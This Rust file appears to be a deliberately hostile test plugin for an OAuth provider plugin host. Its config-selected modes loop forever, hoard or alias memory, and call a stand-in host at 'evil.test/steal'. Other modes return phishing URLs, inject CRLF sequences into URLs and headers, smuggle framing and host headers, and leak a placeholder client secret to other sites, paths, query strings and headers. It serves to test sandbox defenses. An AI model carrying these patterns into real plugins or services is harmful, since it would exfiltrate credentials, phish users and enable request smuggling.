//! Misbehaves according to the configuration's `mode`, in every call a plugin
//! makes: loops, hoards memory, reaches for other sites, follows redirects, traps,
//! phishes, splits headers, returns values past their caps, puts the client secret
//! where it may not go, and floods the host with slow calls.

use securix_plugin_sdk::{
    AuthorizeRequest, CodeExchange, Config, ConfigInfo, Endpoints, Header, Identity, Provider, ProviderError,
    ProviderInfo, ProxyTarget, TokenRequest, TokenSet, http, register_provider,
};

struct Hostile;

const PLACEHOLDER: &str = "__securix_client_secret__";

fn form(_body: &str) -> Vec<Header> {
    vec![http::custom_header("content-type", "application/x-www-form-urlencoded")]
}

fn tokens(access_token: String) -> TokenSet {
    TokenSet { access_token, refresh_token: None, id_token: None, token_type: "Bearer".into(), expires_in: None, scopes: None }
}

impl Provider for Hostile {
    fn info() -> ProviderInfo {
        ProviderInfo::new("hostile", "Hostile")
            .hosts(&["provider.test"])
            .client_auth_endpoints(&["https://provider.test/token"])
    }

    fn endpoints(_config: &Config) -> Result<Endpoints, ProviderError> {
        Ok(Endpoints::new("https://provider.test/authorize", "https://provider.test/token", "https://provider.test"))
    }

    /// `claim-endpoint`: claims a client-auth endpoint on a site only the
    /// configuration adds (allowed only when the operator's configuration names it).
    fn validate_config(config: &Config) -> Result<ConfigInfo, ProviderError> {
        match config.str("mode").unwrap_or("") {
            "claim-endpoint" => Ok(ConfigInfo {
                config: config.to_json(),
                hosts: vec!["echo.test".into()],
                client_auth_endpoints: vec!["https://echo.test/token".into()],
            }),
            // 64 sites that all point at one 1 MiB buffer: 64 MiB for a host that
            // copies each before counting.
            "shared-list" => {
                let mut big = std::mem::ManuallyDrop::new("a".repeat(1 << 20));
                let (ptr, len) = (big.as_mut_ptr(), big.len());
                // SAFETY: deliberately not — the strings alias; the host must never copy them all.
                let hosts = (0..64).map(|_| unsafe { String::from_raw_parts(ptr, len, len) }).collect();
                Ok(ConfigInfo { config: config.to_json(), hosts, client_auth_endpoints: Vec::new() })
            }
            "other-port-site" => Ok(ConfigInfo {
                config: config.to_json(),
                hosts: vec!["provider.test:8443".into()],
                client_auth_endpoints: Vec::new(),
            }),
            _ => Ok(ConfigInfo { config: config.to_json(), hosts: Vec::new(), client_auth_endpoints: Vec::new() }),
        }
    }

    fn authorize_url(config: &Config, _request: &AuthorizeRequest) -> Result<String, ProviderError> {
        match config.str("mode").unwrap_or("") {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let hoard = vec![7u8; 1 << 30];
                Ok(format!("https://provider.test/{}", std::hint::black_box(hoard).len()))
            }
            "fetch-outside" => match http::send("GET", "https://evil.test/steal", Vec::new(), Vec::new()) {
                Ok(response) => Ok(format!("https://provider.test/reached-{}", response.status)),
                Err(error) => Err(ProviderError::Protocol(format!("outside fetch failed: {error:?}"))),
            },
            "other-port" => match http::send("GET", "https://provider.test:8443/x", Vec::new(), Vec::new()) {
                Ok(response) => Ok(format!("https://provider.test/reached-{}", response.status)),
                Err(error) => Err(ProviderError::Protocol(format!("other port failed: {error:?}"))),
            },
            "other-scheme" => match http::send("GET", "http://provider.test/x", Vec::new(), Vec::new()) {
                Ok(response) => Ok(format!("https://provider.test/reached-{}", response.status)),
                Err(error) => Err(ProviderError::Protocol(format!("plain http failed: {error:?}"))),
            },
            "redirect" => {
                let first = http::send("GET", "https://provider.test/redirect-me", Vec::new(), Vec::new())?;
                let location = first.header("location").unwrap_or_default().to_owned();
                match http::send("GET", &location, Vec::new(), Vec::new()) {
                    Ok(second) => Ok(format!("https://provider.test/followed-{}", second.status)),
                    Err(error) => Err(ProviderError::Protocol(format!("status {} then {error:?}", first.status))),
                }
            }
            "trap" => panic!("the hostile plugin gives up"),
            "phish" => Ok("https://evil.test/login".into()),
            "phish-port" => Ok("https://provider.test:8443/login".into()),
            "crlf" => Ok("https://provider.test/authorize\r\nset-cookie: session=stolen".into()),
            "huge-url" => Ok(format!("https://provider.test/{}", "a".repeat(64 << 10))),
            // The secret during a call that does not authenticate the client.
            "secret-in-authorize" => {
                let body = format!("client_secret={PLACEHOLDER}");
                let _ = http::send("POST", "https://provider.test/token", form(&body), body.into_bytes());
                Ok("https://provider.test/authorize".into())
            }
            _ => Ok("https://provider.test/authorize".into()),
        }
    }

    /// Every way of carrying the client secret somewhere else; `echo` returns what
    /// the provider echoed back as the token.
    fn exchange_code(config: &Config, _request: &CodeExchange) -> Result<TokenSet, ProviderError> {
        let field = format!("client_secret={PLACEHOLDER}");
        let basic = http::basic("client-123", PLACEHOLDER);
        let sent = match config.str("mode").unwrap_or("") {
            "secret-to-config-site" => http::send("POST", "https://echo.test/token", form(&field), field.into_bytes()),
            "secret-to-other-path" => http::send("POST", "https://provider.test/echo", form(&field), field.into_bytes()),
            "secret-in-json" => {
                let json = format!(r#"{{"client_secret":"{PLACEHOLDER}"}}"#);
                let headers = vec![http::custom_header("content-type", "application/json")];
                http::send("POST", "https://provider.test/token", headers, json.into_bytes())
            }
            "secret-in-url" => {
                http::send("POST", &format!("https://provider.test/token?client_secret={PLACEHOLDER}"), Vec::new(), Vec::new())
            }
            "secret-in-other-field" => {
                let body = format!("note={PLACEHOLDER}");
                http::send("POST", "https://provider.test/token", form(&body), body.into_bytes())
            }
            "secret-in-header" => {
                let headers = vec![http::custom_header("x-client-secret", PLACEHOLDER)];
                http::send("POST", "https://provider.test/token", headers, Vec::new())
            }
            "huge-token" => return Ok(tokens("t".repeat(64 << 10))),
            "echo-encoded" => {
                let mut headers = form(&field);
                headers.push(http::custom_header("accept-encoding", "gzip"));
                headers.push(http::custom_header("x-want-gzip", "1"));
                return match http::send("POST", "https://provider.test/token", headers, field.into_bytes()) {
                    Ok(answer) => Ok(tokens(String::from_utf8_lossy(&answer.body).into_owned())),
                    Err(error) => Err(ProviderError::Protocol(format!("{error:?}"))),
                };
            }
            "echo" => {
                let mut headers = form(&field);
                headers.push(basic);
                let answer = http::send("POST", "https://provider.test/token", headers, field.into_bytes())?;
                let mut echoed: String = answer.headers.iter().map(|h| format!("{}: {}\n", h.name, h.value)).collect();
                echoed.push_str(&String::from_utf8_lossy(&answer.body));
                return Ok(tokens(echoed.chars().take(8000).collect()));
            }
            _ => {
                let answer = http::send("POST", "https://provider.test/token", form(&field), field.into_bytes())?;
                return securix_plugin_sdk::parse_token_response(&answer);
            }
        };
        // The guest swallows the refusal and claims success: the host fails the call anyway.
        let _ = sent;
        Ok(tokens("swallowed".into()))
    }

    /// `hold`: a slow provider (the flood); otherwise a well-behaved identity.
    fn identity(config: &Config, _request: &TokenRequest) -> Result<Identity, ProviderError> {
        if config.str("mode") == Some("hold") {
            http::send("GET", "https://hold.test/hold", Vec::new(), Vec::new())?;
        }
        Ok(Identity { account_id: "hostile-user".into(), email: None, name: None })
    }

    /// Headers that would frame the request or split its head, or too many.
    fn proxy_target(config: &Config, request: &TokenRequest) -> Result<ProxyTarget, ProviderError> {
        let mut headers = vec![http::bearer(&request.access_token)];
        let (name, value) = match config.str("mode").unwrap_or("") {
            "content-length" => ("content-length", "5"),
            "transfer-encoding" => ("transfer-encoding", "chunked"),
            "connection" => ("connection", "close"),
            "host" => ("host", "evil.test"),
            "crlf" => ("x-api-version", "1\r\nx-injected: yes"),
            "many-headers" => {
                headers.extend((0..1000).map(|i| Header { name: format!("x-h{i}"), value: "v".into() }));
                ("x-api-version", "1")
            }
            _ => ("x-api-version", "1"),
        };
        headers.push(Header { name: name.to_owned(), value: value.to_owned() });
        Ok(ProxyTarget { base_url: "https://provider.test/api".into(), headers })
    }
}

register_provider!(Hostile);
